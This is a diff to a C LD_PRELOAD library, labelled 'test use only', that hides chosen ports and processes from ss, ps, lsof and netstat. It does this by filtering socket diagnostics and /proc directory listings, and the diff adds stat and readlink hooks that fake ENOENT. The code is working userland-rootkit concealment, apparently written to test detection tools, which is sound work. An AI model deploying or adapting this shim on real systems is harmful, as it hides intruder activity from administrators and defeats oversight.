@@ -8,7 +8,9 @@
  *     source port is in HIDE_PORTS are cut out of the buffer (what ss reads).
  *   - readdir/readdir64 of /proc: processes whose comm is HIDE_COMM are left out
  *     (what ps, lsof, ss -p and netstat -p read).
- * HIDE_PORTS="7001,7002" (decimal), HIDE_COMM=name.  Test use only; LD_PRELOAD it. */
+ *   - stat of /proc/PID and readlink of /proc/PID/fd/N: ENOENT for processes
+ *     whose comm is HIDE_LINKS_COMM (what lsof and ss -p do with an owner).
+ * HIDE_PORTS="7001,7002" (decimal), HIDE_COMM=name, HIDE_LINKS_COMM=name.  Test use only; LD_PRELOAD it. */
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <linux/inet_diag.h>
@@ -161,6 +163,8 @@ ssize_t recvfrom(int fd, void *buf, size_t len, int flags, struct sockaddr *a, s
 #include <fcntl.h>
 #include <sys/syscall.h>
 
+static int comm_is(const char *pid, const char *want);
+
 static int hidden_pid_entry(DIR *d, const char *name)
 {
 	const char *want = getenv("HIDE_COMM");
@@ -174,8 +178,14 @@ static int hidden_pid_entry(DIR *d, const char *name)
 	link[l] = '\0';
 	if (strcmp(link, "/proc") != 0)
 		return 0;
+	return comm_is(name, want);
+}
+
+/* is the comm of /proc/PID (pid as text, up to a '/') want?  raw syscalls only */
+static int comm_is(const char *pid, const char *want)
+{
 	char cpath[64], comm[32];
-	snprintf(cpath, sizeof cpath, "/proc/%s/comm", name);
+	snprintf(cpath, sizeof cpath, "/proc/%.*s/comm", (int)strcspn(pid, "/"), pid);
 	int fd = (int)syscall(SYS_openat, AT_FDCWD, cpath, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
 		return 0;
@@ -205,4 +215,40 @@ struct dirent64 *readdir64(DIR *d)
 	while ((e = real(d)) && hidden_pid_entry(d, e->d_name))
 		;
 	return e;
+}
+
+/* stat of /proc/PID and readlink of /proc/PID/fd/N fail with ENOENT for the
+ * processes whose comm is HIDE_LINKS_COMM: lsof and ss -p lose the owner */
+#include <errno.h>
+#include <sys/stat.h>
+
+static int links_hidden(const char *path, int fdlink)
+{
+	const char *want = getenv("HIDE_LINKS_COMM");
+	if (!want || !*want || strncmp(path, "/proc/", 6) != 0 || path[6] < '1' || path[6] > '9')
+		return 0;
+	const char *rest = path + 6 + strspn(path + 6, "0123456789");
+	if (fdlink ? strncmp(rest, "/fd/", 4) != 0 : *rest != '\0')
+		return 0;
+	return comm_is(path + 6, want);
+}
+
+int stat(const char *path, struct stat *st)
+{
+	int (*real)(const char *, struct stat *) = dlsym(RTLD_NEXT, "stat");
+	if (links_hidden(path, 0)) {
+		errno = ENOENT;
+		return -1;
+	}
+	return real(path, st);
+}
+
+ssize_t readlink(const char *path, char *buf, size_t n)
+{
+	ssize_t (*real)(const char *, char *, size_t) = dlsym(RTLD_NEXT, "readlink");
+	if (links_hidden(path, 1)) {
+		errno = ENOENT;
+		return -1;
+	}
+	return real(path, buf, n);
 }
